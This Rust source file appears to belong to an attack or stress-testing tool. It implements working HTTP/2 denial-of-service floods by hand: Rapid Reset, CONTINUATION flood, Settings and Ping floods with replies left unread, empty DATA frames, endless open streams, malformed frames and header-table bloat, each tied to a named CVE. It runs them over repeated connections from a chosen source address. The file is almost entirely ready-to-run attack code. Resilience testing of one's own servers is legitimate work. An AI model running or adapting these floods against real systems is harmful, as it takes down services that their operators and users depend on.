//! HTTP/2 as no client speaks it: frames by hand, as many as the connection takes.
use std::{
    net::{Ipv4Addr, SocketAddr},
    time::{Duration, Instant},
};

use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::TcpStream,
    time::timeout,
};

use crate::{attack::connect, report::Tally};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RESET: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
/// Connections that one attacker opens, one after the other.
const MAX_CONNECTIONS: u32 = 40;

/// What is sent without end.
#[derive(Clone, Copy, Debug)]
pub(crate) enum Flood {
    /// Requests that are taken back at once (CVE-2023-44487).
    RapidReset,
    /// Headers that do not end (CVE-2024-27316).
    Continuation,
    /// Settings, whose acknowledgements nobody reads (CVE-2019-9515).
    Settings,
    /// Pings, whose answers nobody reads (CVE-2019-9512).
    Ping,
    /// Frames of data without data (CVE-2019-9518).
    EmptyData,
    /// Requests that never end.
    OpenStreams,
    /// Priorities and windows of streams that are not there, frames of unknown kinds.
    Nonsense,
    /// Large headers, again and again, kept by the table of headers.
    HeaderTable,
}

impl Flood {
    /// Floods connections one after the other until it is time.
    pub(crate) async fn run(self, address: SocketAddr, from: Ipv4Addr, until: Instant) -> Tally {
        let mut tally = Tally::default();
        for _ in 0..MAX_CONNECTIONS {
            let Some(left) = until.checked_duration_since(Instant::now()).filter(|left| !left.is_zero()) else { break };
            let told = match connect(address, from).await {
                Ok(stream) => timeout(left, self.flood(stream, address)).await.unwrap_or("flooded to the end"),
                Err(_) => "cut",
            };
            tally.note(told);
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
        tally
    }

    async fn flood(self, mut stream: TcpStream, address: SocketAddr) -> &'static str {
        if stream.write_all(PREFACE).await.is_err() || stream.write_all(&frame(SETTINGS, 0, 0, &[])).await.is_err() {
            return "cut";
        }
        let mut number = 1;
        let mut read = [0; 4096];
        loop {
            let Some(bytes) = self.burst(&mut number, address) else { return "out of streams" };
            if stream.write_all(&bytes).await.is_err() {
                return "cut";
            }
            // Answers to settings and pings are left unread, so that they pile up where they are made.
            if matches!(self, Self::Settings | Self::Ping) {
                continue;
            }
            if let Ok(Ok(0) | Err(_)) = timeout(Duration::from_millis(1), stream.read(&mut read)).await {
                return "cut";
            }
        }
    }

    /// The next frames, about 16 KiB of them.
    fn burst(self, number: &mut u32, address: SocketAddr) -> Option<Vec<u8>> {
        let mut bytes = Vec::new();
        while bytes.len() < 16_000 {
            let (stream, begins) = (*number, *number == 1);
            // Streams that the client opens are odd, and each number is used once.
            *number = number.checked_add(2).filter(|number| *number < 0x7fff_ffff)?;
            match self {
                Self::RapidReset => {
                    bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream, &request(address)));
                    bytes.extend(frame(RESET, 0, stream, &[0, 0, 0, 8]));
                }
                Self::Continuation if begins => bytes.extend(frame(HEADERS, 0, 1, &request(address))),
                Self::Continuation => bytes.extend(frame(CONTINUATION, 0, 1, &header(b"x-more", &[b'x'; 100]))),
                Self::Settings => bytes.extend(frame(SETTINGS, 0, 0, &[0, 1, 0, 0, 16, 0].repeat(10))),
                Self::Ping => bytes.extend(frame(PING, 0, 0, &[7; 8])),
                Self::EmptyData if begins => bytes.extend(frame(HEADERS, END_HEADERS, 1, &request(address))),
                Self::EmptyData => bytes.extend(frame(DATA, 0, 1, &[])),
                Self::OpenStreams => bytes.extend(frame(HEADERS, END_HEADERS, stream, &request(address))),
                Self::Nonsense => {
                    bytes.extend(frame(PRIORITY, 0, stream, &[0, 0, 0, 0, 255]));
                    bytes.extend(frame(WINDOW, 0, 0, &[0, 0, 0, 1]));
                    bytes.extend(frame(0xfa, 0xff, stream, &[b'x'; 200]));
                }
                Self::HeaderTable => {
                    let headers = [request(address), kept_header(b"x-kept", &[b'x'; 3000])].concat();
                    bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream, &headers));
                }
            }
        }
        Some(bytes)
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let [_, length @ ..] = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    [&length[..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// The headers of `GET /readyz` (RFC 7541: method and scheme from the static table, the others as they are).
fn request(address: SocketAddr) -> Vec<u8> {
    let authority = address.to_string();
    [&[0x82, 0x86, 0x04][..], &text(b"/readyz"), &[0x01], &text(authority.as_bytes())].concat()
}

/// A header that is not kept in the table.
fn header(name: &[u8], value: &[u8]) -> Vec<u8> {
    [&[0x00][..], &text(name), &text(value)].concat()
}

/// A header that is kept in the table.
fn kept_header(name: &[u8], value: &[u8]) -> Vec<u8> {
    [&[0x40][..], &text(name), &text(value)].concat()
}

/// A text with its length, as a number with a prefix of seven bits.
fn text(bytes: &[u8]) -> Vec<u8> {
    let mut left = bytes.len();
    let mut encoded = Vec::new();
    if left < 127 {
        encoded.push(u8::try_from(left).unwrap_or_default());
    } else {
        encoded.push(127);
        left -= 127;
        while 128 <= left {
            encoded.push(u8::try_from(left % 128).unwrap_or_default() | 128);
            left /= 128;
        }
        encoded.push(u8::try_from(left).unwrap_or_default());
    }
    encoded.extend_from_slice(bytes);
    encoded
}
